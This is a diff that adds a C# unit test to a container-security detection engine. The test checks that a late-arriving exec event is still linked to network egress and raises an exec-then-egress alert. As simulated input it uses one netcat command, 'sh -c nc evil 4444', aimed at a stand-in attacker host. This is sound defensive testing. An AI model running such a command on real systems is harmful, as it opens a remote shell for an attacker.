@@ -402,6 +402,23 @@ public sealed class DetectionRuleTests
     }
 
     [Fact]
+    public void An_exec_event_that_arrives_a_poll_after_the_packets_still_ties_the_destination_to_it()
+    {
+        var harness = new DetectionHarness();
+        string id = harness.Container(9);
+        harness.Poll(Start + (4 * Second), () => harness.Flow(Key(9, 40002), 120, 90, Start + (3 * Second)));
+        Assert.DoesNotContain(harness.Alerts, alert => alert.Rule == RuleIds.ExecThenEgress);
+
+        // the engine's stream delivers the exec late
+        harness.Exec(id, Start + Second, "sh -c nc evil 4444");
+        harness.Poll(Start + (5 * Second), () => harness.Flow(Key(9, 40002), 120, 90, Start + (3 * Second)));
+        harness.Poll(Start + (6 * Second), () => harness.Flow(Key(9, 40002), 160, 90, Start + (3 * Second)));
+
+        Alert exec = Assert.Single(harness.Alerts, alert => alert.Rule == RuleIds.ExecThenEgress);
+        Assert.Equal("sh -c nc evil 4444", (string)exec.Evidence["exec_command"]!);
+    }
+
+    [Fact]
     public void A_healthcheck_exec_is_not_an_exec_into_the_container()
     {
         var harness = new DetectionHarness();
